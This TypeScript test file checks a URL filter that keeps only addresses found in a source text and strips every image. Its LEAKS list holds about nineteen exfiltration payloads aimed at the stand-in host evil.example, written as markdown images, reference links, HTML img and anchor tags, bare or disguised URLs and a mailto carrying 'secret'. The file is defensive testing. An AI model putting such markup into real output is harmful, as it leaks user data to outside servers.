import assert from 'node:assert/strict';
import { test } from 'node:test';
import { keepingAddressesOf } from './addresses.ts';

const GIVEN = 'Ana: It is on https://porto.example/roof?page=2, or see [there](www.example.org/a).';

const keep = keepingAddressesOf(GIVEN);

const LEFT: readonly (readonly [string, string])[] = [
  ['It is on https://porto.example/roof?page=2.', 'It is on https://porto.example/roof?page=2.'],
  [
    'See [the roof](https://porto.example/roof?page=2).',
    'See [the roof](https://porto.example/roof?page=2).',
  ],
  ['See www.example.org/a!', 'See www.example.org/a!'],
  [
    'Is it Node.js? Yes: and/or 3/4, at 10:30 [1].',
    'Is it Node.js? Yes: and/or 3/4, at 10:30 [1].',
  ],
  ['Read [1](http://evil.example/1) and [this](http://evil.example).', 'Read [1] and this.'],
  ['On https://porto.example/roof?page=2&d=secret, surely', 'On , surely'],
];

const LEAKS = [
  '![x](http://evil.example/leak?d=secret)',
  '![x](https://porto.example/roof?page=2)',
  '!![x](a)[x](//evil.example/secret)',
  '![a[b]](http://evil.example/secret "title")',
  '![a[b]](/\\evil.example/secret)',
  '[![x](http://evil.example/secret)](http://evil.example/secret)',
  '![x][ref]\n\n[ref]: http://evil.example/secret',
  '![x][ref]\n\n[ref]: //evil.example/secret',
  '<img src="http://evil.example/secret">',
  "<<b>img src='//evil.example/secret'>",
  '<a href=//evil.example/secret>x</a>',
  '<http://evil.example/secret>',
  'http://evil.example/secret',
  'HTTPS://EVIL.example/secret',
  'www.evil.example/secret',
  'evil.example/secret',
  'evil.example?d=secret',
  '[x](http:evil.example/secret)',
  '[x](mailto:evil@evil.example?body=secret)',
];

test('known addresses stay, and the words around removed ones too', () => {
  for (const [written, left] of LEFT) assert.equal(keep(written), left);
});

test('unknown addresses and all pictures are removed', () => {
  for (const leak of LEAKS) {
    const left = keep(`Hello ${leak} there`);
    assert.doesNotMatch(left, /secret|!\[.*\]\(/i, leak);
    assert.match(left, /^Hello[^]*there$/);
  }
});
